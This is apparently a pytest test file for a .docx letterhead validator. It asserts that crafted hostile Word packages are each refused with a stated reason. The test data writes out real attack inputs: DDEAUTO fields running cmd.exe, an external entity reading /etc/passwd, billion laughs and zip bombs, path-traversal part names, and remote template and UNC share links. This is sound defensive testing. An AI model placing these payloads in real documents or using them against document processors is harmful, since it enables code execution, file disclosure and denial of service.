"""Every hostile or useless file is refused with its reason in words, and the sound one beside it is not."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from functools import partial

import pytest

from mlawriter.i18n.translator import translator
from mlawriter.render.letterhead import read, refusals
from mlawriter.render.letterhead.container import PARTS_LIMIT
from mlawriter.render.letterhead.refusals import LetterheadFault, LetterheadRefused, told
from tests.render.letterhead.building import (
    DOCUMENT,
    HEADER,
    OFFICE,
    TYPES,
    WORD,
    changed,
    field,
    in_body,
    in_header,
    in_settings,
    line,
    packed,
    png,
    relationship,
    sound,
    text,
    with_part,
    with_relation,
    with_text,
)

BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def code(words: str) -> str:
    return f"<w:r><w:instrText>{words}</w:instrText></w:r>"


def bomb() -> bytes:
    return packed({**sound(), "word/big.xml": b"<a>" + b" " * (15 << 20) + b"</a>"})


def lying_bomb() -> bytes:
    """Return a bomb whose directory says that it is small."""
    content = bytearray(bomb())
    real, small = struct.pack("<I", (15 << 20) + 7), struct.pack("<I", 1000)
    assert real in content
    return bytes(content.replace(real, small))


def many_small_bombs() -> bytes:
    parts = {f"word/media/{number}.png": png() + bytes(900_000) for number in range(60)}
    return packed({**sound(), **parts})


def twice() -> bytes:
    target = io.BytesIO(packed(sound()))
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr(HEADER, b"<evil/>")
    return target.getvalue()


def with_password() -> bytes:
    content = bytearray(packed(sound()))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def compressed_otherwise() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_LZMA) as package:
        for name, content in sound().items():
            package.writestr(name, content)
    return target.getvalue()


def xml(part: str, old: str, new: str, encoding: str) -> bytes:
    parts = sound()
    parts[part] = parts[part].decode().replace(old, new, 1).encode(encoding)
    return packed(parts)


ENTITY = '<!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:hdr'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:hdr'
UNC = "\\\\192.0.2.1\\share\\logo.png"
MACRO_TYPE = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"

HOSTILE: dict[str, tuple[Callable[[], bytes], type[LetterheadFault]]] = {
    "remote template": (
        lambda: changed(
            in_settings('<w:attachedTemplate r:id="rId50"/>'),
            with_part("word/_rels/settings.xml.rels", b"<Relationships></Relationships>"),
            with_relation("word/settings.xml", "attachedTemplate", "http://192.0.2.1/t.dotm", external=True),
        ),
        refusals.AttachedTemplate,
    ),
    "picture by a field": (
        lambda: changed(in_header(line(field('INCLUDEPICTURE "http://192.0.2.1/x.png" \\d')))),
        refusals.DangerousField,
    ),
    "dde": (
        lambda: changed(in_body(line(field("DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")))),
        refusals.DangerousField,
    ),
    "dde in small letters": (lambda: changed(in_header(line(field("ddeauto x y")))), refusals.DangerousField),
    "dde split over runs": (
        lambda: changed(
            in_header(line(BEGIN + code("DD") + code("EAUTO c:\\cmd") + SEPARATE + text("x") + END))
        ),
        refusals.DangerousField,
    ),
    "dde split over paragraphs": (
        lambda: changed(in_header(line(BEGIN + code(" D")) + line(code("DE x y") + SEPARATE + END))),
        refusals.DangerousField,
    ),
    "dde spelt by a nested field": (
        lambda: changed(
            in_header(line(BEGIN + field("QUOTE 68 68 69 65") + code(" c:\\cmd") + SEPARATE + END))
        ),
        refusals.FieldInField,
    ),
    "dde behind a harmless field": (
        lambda: changed(in_header(line(BEGIN + code("PAGE") + SEPARATE + code("DDE x y") + END))),
        refusals.DangerousField,
    ),
    "dde in text of a field": (
        lambda: changed(in_header(line(BEGIN + text("DDE x y") + SEPARATE + END))),
        refusals.DangerousField,
    ),
    "deleted dde": (
        lambda: changed(
            in_header(line(BEGIN + "<w:r><w:delInstrText>DDE x y</w:delInstrText></w:r>" + SEPARATE + END))
        ),
        refusals.DangerousField,
    ),
    "field code outside of a field": (
        lambda: changed(in_header(line(code("DDE x y")))),
        refusals.DangerousField,
    ),
    "text of another file": (
        lambda: changed(
            in_header(line(f'<w:fldSimple w:instr="INCLUDETEXT c:/secret.docx">{text("x")}</w:fldSimple>'))
        ),
        refusals.DangerousField,
    ),
    "macro button": (
        lambda: changed(in_header(line(field("MACROBUTTON Run click")))),
        refusals.DangerousField,
    ),
    "condition": (lambda: changed(in_header(line(field("IF 1 = 1 a b")))), refusals.DangerousField),
    "field without an end": (lambda: changed(in_header(line(BEGIN + code("PAGE")))), refusals.DamagedPart),
    "field without a beginning": (lambda: changed(in_header(line(END))), refusals.DamagedPart),
    "link in a field": (
        lambda: changed(in_header(line(field('HYPERLINK "file://192.0.2.1/x"')))),
        refusals.UnsafeLink,
    ),
    "picture on a share": (
        lambda: changed(with_relation(HEADER, "image", UNC, external=True)),
        refusals.OutsideSource,
    ),
    "picture on a share, said to be inside": (
        lambda: changed(with_relation(HEADER, "image", UNC)),
        refusals.OutsideSource,
    ),
    "picture from a web site": (
        lambda: changed(with_relation(HEADER, "image", "https://www.example.org/x.png", external=True)),
        refusals.OutsideSource,
    ),
    "picture by an attribute": (
        lambda: changed(
            in_header(f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{UNC}"/></v:shape></w:pict></w:r></w:p>')
        ),
        refusals.OutsideSource,
    ),
    "header of elsewhere": (
        lambda: changed(with_relation(DOCUMENT, "header", "http://192.0.2.1/h.xml", external=True)),
        refusals.OutsideSource,
    ),
    "link to a bare address": (
        lambda: changed(with_relation(DOCUMENT, "hyperlink", "http://192.0.2.1/", external=True)),
        refusals.UnsafeLink,
    ),
    **{
        f"link {target}": (
            partial(changed, with_relation(HEADER, "hyperlink", target, external=True)),
            refusals.UnsafeLink,
        )
        for target in (
            "file:///c:/windows/system32/calc.exe",
            "\\\\server\\share",
            "//server/share",
            "javascript:alert(1)",
            "ms-word:ofe|u|http://x.example/a.docx",
            "search-ms:query=x",
            "http://2130706433/",
            "http://[::1]/",
            "http://www.justice.example@192.0.2.1/",
            "https://www.justice.example@evil.example/",
            "www.192.0.2.1",
            "smb://server.example/x",
            "..\\x.docx",
        )
    },
    "macros": (
        lambda: changed(with_part("word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject")),
        refusals.Macros,
    ),
    "template with macros (.dotm)": (
        lambda: changed(with_text(TYPES, f"{WORD}.document.main+xml", MACRO_TYPE)),
        refusals.Macros,
    ),
    "ole object": (
        lambda: changed(
            with_part("word/embeddings/o.bin", b"\xd0\xcf", f"{OFFICE}.oleObject"),
            with_relation(DOCUMENT, "oleObject", "embeddings/o.bin"),
        ),
        refusals.EmbeddedFile,
    ),
    "embedded workbook": (
        lambda: changed(with_part("word/embeddings/b.xlsx", b"PK", f"{OFFICE}.spreadsheetml.sheet")),
        refusals.EmbeddedFile,
    ),
    "control": (
        lambda: changed(with_part("word/activeX/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml")),
        refusals.EmbeddedFile,
    ),
    "object in the header": (
        lambda: changed(in_header("<w:p><w:r><w:object/></w:r></w:p>")),
        refusals.EmbeddedFile,
    ),
    "html brought in": (
        lambda: changed(in_body('<w:altChunk r:id="rId50"/>'), with_relation(DOCUMENT, "aFChunk", "a.html")),
        refusals.ImportedText,
    ),
    "document within": (lambda: changed(in_body('<w:subDoc r:id="rId50"/>')), refusals.ImportedText),
    "mail merge": (
        lambda: changed(in_settings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>')),
        refusals.MailMerge,
    ),
    "svg": (
        lambda: changed(with_part("word/media/a.svg", b"<svg/>", "image/svg+xml")),
        refusals.DrawingWithPrograms,
    ),
    "svg called png": (
        lambda: changed(with_part("word/media/logo.png", b"<svg/>", "image/svg+xml")),
        refusals.DrawingWithPrograms,
    ),
    "metafile called png": (
        lambda: changed(with_part("word/media/b.png", b"\1\0\0\0EMF")),
        refusals.NotThatPicture,
    ),
    "jpeg called png": (
        lambda: changed(with_part("word/media/b.png", b"\xff\xd8\xff\xe0")),
        refusals.NotThatPicture,
    ),
    "external entity": (lambda: xml(HEADER, "<w:hdr", ENTITY, "utf-8"), refusals.HiddenDefinitions),
    "billion laughs": (lambda: xml(HEADER, "<w:hdr", LAUGHS, "utf-8"), refusals.HiddenDefinitions),
    "entity in small letters": (
        lambda: xml(HEADER, "<w:hdr", "<!doctype a><w:hdr", "utf-8"),
        refusals.HiddenDefinitions,
    ),
    "utf-16": (
        lambda: xml(HEADER, 'encoding="UTF-8"', 'encoding="UTF-16"', "utf-16"),
        refusals.HiddenDefinitions,
    ),
    "utf-16 without a mark": (lambda: xml(HEADER, "<?xml", "<?xml", "utf-16-le"), refusals.HiddenDefinitions),
    "utf-7": (
        lambda: xml(HEADER, 'encoding="UTF-8"', 'encoding="UTF-7"', "utf-8"),
        refusals.HiddenDefinitions,
    ),
    "types with an entity": (
        lambda: xml(TYPES, "<Types", "<!DOCTYPE Types><Types", "utf-8"),
        refusals.HiddenDefinitions,
    ),
    "zip bomb": (bomb, refusals.UnpacksTooLarge),
    "zip bomb that lies": (lying_bomb, refusals.DamagedPart),
    "many small bombs": (many_small_bombs, refusals.UnpacksTooLarge),
    "too many elements": (
        lambda: packed({**sound(), "word/settings.xml": b"<a>" + b"<b/>" * 200_001 + b"</a>"}),
        refusals.TooComplicated,
    ),
    "elements nested too deep": (
        lambda: packed({**sound(), "word/settings.xml": b"<a>" * 5000 + b"</a>" * 5000}),
        refusals.DamagedPart,
    ),
    "too many parts": (
        lambda: packed({**sound(), **{f"word/{n}.xml": b"<a/>" for n in range(PARTS_LIMIT)}}),
        refusals.TooManyParts,
    ),
    **{
        f"part called {name}": (
            partial(packed, {**sound(), name: b"<a/>"}),
            refusals.UnsafeName,
        )
        for name in (
            "../evil.xml",
            "/etc/x.xml",
            "word/../../x.xml",
            "word\\x.xml",
            "c:/x.xml",
            "word/./x.xml",
            "wörd.xml",
        )
    },
    "target above the package": (
        lambda: changed(with_relation(HEADER, "image", "../../../x.png")),
        refusals.UnsafeName,
    ),
    "part twice": (twice, refusals.UnsafeName),
    "part twice in other letters": (
        lambda: packed({**sound(), "word/HEADER1.xml": b"<a/>"}),
        refusals.UnsafeName,
    ),
    "old document or password": (lambda: b"\xd0\xcf\x11\xe0" + bytes(600), refusals.OldOrProtected),
    "zip with a password": (with_password, refusals.OldOrProtected),
    "other compression": (compressed_otherwise, refusals.DamagedPart),
    "custom ribbon": (
        lambda: changed(
            with_part("customUI/customUI.xml", b"<customUI/>"),
            with_relation(
                "",
                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                "customUI/customUI.xml",
            ),
        ),
        refusals.ForeignPart,
    ),
    "unknown kind of part": (
        lambda: changed(with_part("word/x.bin", b"x", "application/x-msdownload")),
        refusals.ForeignPart,
    ),
    "part without a kind": (lambda: changed(with_part("word/x.exe", b"MZ")), refusals.ForeignPart),
    "damaged part": (lambda: changed(with_text(HEADER, "</w:hdr>", "")), refusals.DamagedPart),
    "huge picture": (
        lambda: changed(with_part("word/media/logo.png", png(20_000, 20_000)), in_header(PICTURE)),
        refusals.HugePicture,
    ),
    "picture of no size": (
        lambda: changed(with_part("word/media/logo.png", png(0, 2)), in_header(PICTURE)),
        refusals.NotThatPicture,
    ),
    "picture cut off": (
        lambda: changed(with_part("word/media/logo.png", png()[:-8]), in_header(PICTURE)),
        refusals.NotThatPicture,
    ),
    "strict": (
        lambda: packed(
            {
                name: content.replace(
                    b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                    b"http://purl.oclc.org/ooxml/wordprocessingml/main",
                )
                for name, content in sound().items()
            }
        ),
        refusals.StrictDocument,
    ),
    "text called .docx": (lambda: b"Dear colleague", refusals.NotAWordDocument),
    "nothing": (lambda: b"", refusals.NotAWordDocument),
    "spreadsheet": (
        lambda: changed(with_text(TYPES, f"{WORD}.document.main", f"{OFFICE}.spreadsheetml.sheet.main")),
        refusals.NotAWordDocument,
    ),
    "zip of another kind": (
        lambda: packed({"mimetype": b"application/vnd.oasis"}),
        refusals.NotAWordDocument,
    ),
    "program before the zip": (lambda: b"MZ" + packed(sound()), refusals.NotAWordDocument),
    "cut off": (lambda: packed(sound())[:-40], refusals.DamagedFile),
    "empty margins": (lambda: packed(sound(header="<w:p/>", footer="<w:p/>")), refusals.NothingInMargins),
    "no margins": (
        lambda: changed(
            with_text(DOCUMENT, "<w:headerReference", "<w:x"),
            with_text(DOCUMENT, "<w:footerReference", "<w:x"),
        ),
        refusals.NothingInMargins,
    ),
}
PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><a:graphic><a:graphicData><pic:pic><a:blip r:embed="rId9"/>'
    "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_for_its_reason(name: str) -> None:
    build, reason = HOSTILE[name]

    with pytest.raises(LetterheadRefused) as refused:
        read(build(), "letterhead.docx")

    assert reason in {type(cause) for cause in refused.value.causes}


def test_the_file_that_these_are_made_from_is_sound() -> None:
    assert "EXAMPLIA" in read(packed(sound()), "letterhead.docx").letterhead.first_header


def test_all_reasons_are_told_together_and_each_once() -> None:
    content = changed(
        in_header(line(field("DDE x y")) + line(field("DDE x y"))),
        with_part("word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject"),
        with_relation(HEADER, "image", UNC, external=True),
    )

    with pytest.raises(LetterheadRefused) as refused:
        read(content, "letterhead.docx")

    reasons = [type(cause) for cause in refused.value.causes]
    assert sorted(reason.__name__ for reason in reasons) == ["DangerousField", "Macros", "OutsideSource"]
    said = told(refused.value.causes, translator("en", "interface"))
    assert len(said) == 3
    assert any("DDE x y" in words and "Ctrl+Shift+F9" in words for words in said)


def test_what_a_file_says_of_itself_stands_in_one_short_line_that_hides_nothing() -> None:
    content = changed(in_header(line(field("DDE \u202egnp.exe " + "x" * 500))))

    with pytest.raises(LetterheadRefused) as refused:
        read(content, "letterhead.docx")

    (said,) = told(refused.value.causes, translator("en", "interface"))
    assert "\u202e" not in said
    assert len(said) < 300
    assert "\n" not in said


@pytest.mark.parametrize(
    "name", ["word/_rels/settings.xml.RELS", "word/_Rels/settings.xml.Rels", "WORD/_RELS/SETTINGS.XML.RELS"]
)
def test_relationships_are_found_in_whatever_case_they_are_written(name: str) -> None:
    relations = sound()["word/_rels/footer1.xml.rels"].replace(
        b"</Relationships>",
        relationship("rId1", "attachedTemplate", "file://evil/x.dotm", external=True).encode()
        + b"</Relationships>",
    )

    with pytest.raises(LetterheadRefused) as refused:
        read(packed({**sound(), name: relations}), "head.docx")

    assert [type(cause) for cause in refused.value.causes] == [refusals.AttachedTemplate]


def test_file_whose_parts_are_written_in_capitals_is_read_like_any_other() -> None:
    capitals = packed({name.upper(): content for name, content in sound().items()})

    assert read(capitals, "head.docx").letterhead == read(packed(sound()), "head.docx").letterhead
